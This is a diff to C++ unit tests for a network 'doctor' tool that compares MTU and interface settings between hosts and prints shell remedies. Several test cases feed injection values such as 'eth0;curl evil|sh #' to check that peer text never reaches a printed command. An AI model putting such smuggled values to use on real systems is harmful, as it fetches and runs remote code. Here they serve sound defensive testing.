@@ -39,7 +39,13 @@ class Serving {
 };
 
 Outcome compare(const DoctorHost& here, const std::string& address) {
-  return run("spinwire-doctor", {address, "--root", here.root(), "--json"});
+  Outcome o = run("spinwire-doctor", {address, "--root", here.root(), "--json"});
+  for (const nlohmann::json& f : parse_object(o.out).value("findings", nlohmann::json::array())) {
+    if (f.at("severity") == "warning" || f.at("severity") == "error") {
+      EXPECT_TRUE(is_line_for_a_shell(f.at("remedy")));
+    }
+  }
+  return o;
 }
 
 /// The beginning of a finding, as --json prints it.
@@ -73,7 +79,7 @@ TEST_F(Tools, DoctorNamesWhatDiffersBetweenHosts) {
   };
   const Case cases[] = {
       {"MTU", [](DoctorHost& h) { h.put("sys/class/net/eth0/mtu", "1500"); }, "mtu", "warning",
-       "there: ip link set dev eth0 mtu 9000", 1},
+       "ip link set dev eth0 mtu 9000  # there", 1},
       {"active MTU", [](DoctorHost& h) { h.put(kPort + "active_mtu", "1024"); }, "mtu", "warning",
        "port.active_mtu: 4096 here, 1024 there", 1},
       {"GID types",
@@ -243,13 +249,15 @@ TEST_F(Tools, DoctorPrintsNoTextOfAPeerInACommand) {
   struct Case {
     const char *mtu, *interface, *remedy;
   };
+  constexpr const char* kNone = "# no command: a host does not say the MTU of its interface";
   for (const Case& test :
-       {Case{"1500", "eth7", "there: ip link set dev eth7 mtu 9000"},
-        Case{"1500", "eth0;curl evil|sh #", "there: ip link set dev INTERFACE mtu 9000"},
-        Case{"1500", "-force", "there: ip link set dev INTERFACE mtu 9000"},
-        Case{"1500", "a-name-that-is-too-long", "there: ip link set dev INTERFACE mtu 9000"},
-        Case{"9600;curl evil|sh #", "eth7", ""}, Case{"99999", "eth7", ""}, Case{"-1", "eth7", ""},
-        Case{"9600", "eth7;curl evil|sh #", "here: ip link set dev eth0 mtu 9600"}}) {
+       {Case{"1500", "eth7", "ip link set dev eth7 mtu 9000  # there"},
+        Case{"1500", "eth0;curl evil|sh #", "ip link set dev INTERFACE mtu 9000  # there"},
+        Case{"1500", "-force", "ip link set dev INTERFACE mtu 9000  # there"},
+        Case{"1500", "a-name-that-is-too-long", "ip link set dev INTERFACE mtu 9000  # there"},
+        Case{"9600;curl evil|sh #", "eth7", kNone}, Case{"99999", "eth7", kNone},
+        Case{"-1", "eth7", kNone},
+        Case{"9600", "eth7;curl evil|sh #", "ip link set dev eth0 mtu 9600  # here"}}) {
     const Outcome o = compare_with(frame(std::string("port.netdev_mtu=") + test.mtu +
                                          "\nport.netdev=" + test.interface +
                                          "\nengine.port=1;curl evil|sh\ncm.port=x\n"));
